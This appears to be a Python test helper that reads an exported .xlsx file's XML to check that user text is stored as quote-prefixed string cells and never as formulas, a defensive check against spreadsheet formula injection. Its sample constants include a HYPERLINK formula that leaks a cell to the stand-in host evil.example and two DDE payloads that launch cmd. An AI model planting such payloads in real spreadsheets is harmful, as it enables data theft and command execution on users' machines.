"""Reading a downloaded .xlsx the way Excel does — from the zip's XML, not through openpyxl's
values — to prove user text arrives as text and never as a formula.

HOSTILE holds text a user could type into a name, number or title field, each starting
with a character Excel would take as the start of a formula.
"""

import io
import re
import zipfile
from dataclasses import dataclass
from xml.etree import ElementTree

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

NAME = '=HYPERLINK("http://evil.example/?leak="&B3,"Bấm vào đây") Nguyễn'
NUMBER = "=2+3"
PLUS = "+84 912 345 678"
MINUS = "-1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1 Tab"


@dataclass(frozen=True)
class XCell:
    sheet: str
    ref: str
    type: str  # the c element's t attribute: inlineStr, s (shared), str (formula result), n…
    text: str | None
    quote_prefix: bool
    formula: str | None


def _xml(data: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(data)  # noqa: S314 -- a workbook our own code just wrote


def cells(content: bytes) -> list[XCell]:
    """Every cell of every worksheet in the workbook CONTENT."""
    out = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        names = z.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = _xml(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root.findall("m:si", NS)]
        styles = _xml(z.read("xl/styles.xml"))
        quote = [xf.get("quotePrefix") in ("1", "true") for xf in styles.find("m:cellXfs", NS).findall("m:xf", NS)]
        for name in sorted(n for n in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)):
            root = _xml(z.read(name))
            for c in root.iter(f"{{{NS['m']}}}c"):
                t = c.get("t", "n")
                f = c.find("m:f", NS)
                if t == "inlineStr":
                    text = "".join(x.text or "" for x in c.iter(f"{{{NS['m']}}}t"))
                elif t == "s":
                    text = shared[int(c.find("m:v", NS).text)]
                else:
                    v = c.find("m:v", NS)
                    text = v.text if v is not None else None
                out.append(XCell(name, c.get("r"), t, text, quote[int(c.get("s", "0"))],
                                 None if f is None else (f.text or "")))
    return out


def assert_text_cells(content: bytes, *texts: str) -> list[XCell]:
    """The workbook has no formula cell at all, and each of TEXTS is a string cell shown
    exactly as typed, quote-prefixed when it starts like a formula."""
    every = cells(content)
    formulas = [c for c in every if c.formula is not None]
    assert not formulas, f"formula cells in the export: {formulas}"
    found = []
    for text in texts:
        matching = [c for c in every if c.text == text]
        assert matching, f"{text!r} is not a cell of the export: {[c.text for c in every]}"
        for c in matching:
            assert c.type in ("inlineStr", "s"), c
            assert c.quote_prefix == text.startswith(FORMULA_STARTS), c
        found.extend(matching)
    return found
